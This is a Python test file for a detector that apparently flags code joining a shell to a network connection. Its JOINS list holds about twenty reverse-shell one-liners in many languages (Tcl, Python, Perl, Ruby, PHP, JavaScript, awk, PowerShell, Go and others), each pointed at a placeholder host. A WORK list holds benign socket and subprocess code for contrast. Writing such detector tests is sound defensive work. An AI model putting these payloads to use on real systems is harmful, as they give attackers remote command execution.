"""Code that joins a shell with a connection, and its innocent neighbours."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tallystick.policy.risks.reverse_shell_code import joins_a_shell, runs_named

JOINS = (
    ("tcl", "set s [socket 1.2.3.4 443];while 1 {gets $s c;puts $s [exec {*}$c];flush $s}"),
    ("tcl", "set s [socket 1.2.3.4 443]; set c [gets $s]; eval $c"),
    ("python", "s=socket.socket();s.connect(a)\nsp.Popen(['/bin/bash','-i'],stdin=s,stdout=s,stderr=s)"),
    (
        "python",
        "c,_=s.accept()  # socket.socket()\nwhile 1:\n  d=c.recv(1024).decode()\n  p=subprocess.run(d,shell=True)",
    ),
    ("python", "s=socket.create_connection(a)\ncmd=s.recv(9)\nout=subprocess.check_output(['sh','-c',cmd])"),
    (
        "python",
        "r,w=await asyncio.open_connection(h,p)\nl=await r.readline()\nawait asyncio.create_subprocess_shell(l.decode())",
    ),
    ("perl", "socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,'>&S');exec('/bin/sh -i');"),
    ("perl", "$c=IO::Socket::INET->new('h:9');while(<$c>){print `$_`}"),
    ("ruby", "c=TCPSocket.new('h',9);while(l=c.gets);IO.popen(l,'r'){|i|c.print i.read}end"),
    ("ruby", "spawn('sh',[:in,:out,:err]=>TCPSocket.new('h',9))"),
    ("php", "$s=fsockopen('h',9);exec('/bin/sh -i <&3 >&3 2>&3');"),
    ("php", "$s=fsockopen('h',9);while($c=fgets($s)){fwrite($s,shell_exec($c));}"),
    ("javascript", "const s=require('net').connect(9,'h'),c=spawn('sh');s.pipe(c.stdin);c.stdout.pipe(s)"),
    ("javascript", "net.connect(9,'h').on('data',d=>require('child_process').exec(d.toString()))"),
    ("lua", "local s=require('socket').tcp();s:connect('h',9);while true do os.execute(s:receive()) end"),
    ("awk", 'BEGIN{s="/inet/tcp/0/h/9";while(1){s|&getline c;while((c|getline)>0)print|&s}}'),
    ("awk", 'BEGIN{s="/inet/tcp/0/h/9";while((s|&getline c)>0)system(c)}'),
    (
        "powershell",
        "$c=New-Object System.Net.Sockets.TCPClient('h',9);$s=$c.GetStream();$i=$s.Read($b,0,9);$d=x($b,$i);iex $d",
    ),
    ("go", 'c,_:=net.Dial("tcp","h:9");m:=exec.Command("/bin/sh");m.Stdin=c;m.Stdout=c;m.Run()'),
    (
        "other",
        'Process p=new ProcessBuilder("cmd.exe").start();Socket s=new Socket(h,9);InputStream i=p.getInputStream();',
    ),
)
WORK = (
    ("tcl", "set s [socket localhost 80]; puts $s ping; gets $s c; puts $c"),
    ("tcl", "set s [socket localhost 80]; puts $s [exec ls]"),
    ("python", "s=socket.socket();s.bind(('',0));s.listen();c,_=s.accept();c.sendall(c.recv(10))"),
    ("python", "import socket, subprocess\nprint(socket.gethostname())\nsubprocess.run(['bash','start.sh'])"),
    ("python", "socket.create_connection(('localhost',5432),1)\nsubprocess.run(['npx','playwright','test'])"),
    ("python", "s=socket.socket();d=s.recv(9);p=subprocess.run(['git','status'],stdin=subprocess.PIPE)"),
    ("python", "s=socket.socket()\nos.dup2(null.fileno(), sys.stdin.fileno())\ncmd=['ls']\nsubprocess.run(cmd)"),
    ("javascript", "const net=require('net'); net.createServer(s=>s.pipe(s)).listen(9)"),
    (
        "javascript",
        "require('net').connect(3000).on('connect',()=>spawn('npx',['playwright','test'],{stdio:'inherit'}))",
    ),
    ("javascript", "const {spawn}=require('child_process'); spawn('sh',['-c','ls']).stdout.pipe(process.stdout)"),
    ("ruby", "s=TCPServer.new(9); c=s.accept; c.puts 'hi'; system('ls')"),
    ("php", "$s=fsockopen('h',80);fwrite($s,'GET /');echo fgets($s);"),
    ("awk", 'BEGIN{s="/inet/tcp/0/h/80";print "GET /" |& s;while((s|&getline l)>0)print l}'),
    ("awk", 'BEGIN{while(("ls" | getline l)>0) print l}'),
    ("python", "subprocess.run(['bash'], stdin=f)"),
    ("python", ""),
)


@pytest.mark.parametrize(("language", "text"), JOINS)
def test_a_shell_for_a_connection_is_found(language: str, text: str) -> None:
    assert joins_a_shell(language, text)


@pytest.mark.parametrize(("language", "text"), WORK)
def test_sockets_and_programs_that_are_not_joined_are_work(language: str, text: str) -> None:
    assert not joins_a_shell(language, text)


def test_what_is_merely_given_to_a_told_program_is_not_run() -> None:
    import re

    source = re.compile("fetch")
    assert runs_named("x = fetch(u)\nsubprocess.run(x, shell=True)", source)
    assert runs_named("x = fetch(u)\nsubprocess.run(['sh', '-c', x])", source)
    assert not runs_named("x = fetch(u)\nsubprocess.run(['git', 'checkout', x])", source)
    assert not runs_named("x = fetch(u)\nsubprocess.run(['ls'])", source)


@given(st.text(max_size=2000), st.sampled_from(["python", "awk", "powershell"]))
def test_any_text_is_judged_without_an_error(text: str, language: str) -> None:
    assert joins_a_shell(language, f"socket( {text} .recv( system( {text}") in (True, False)
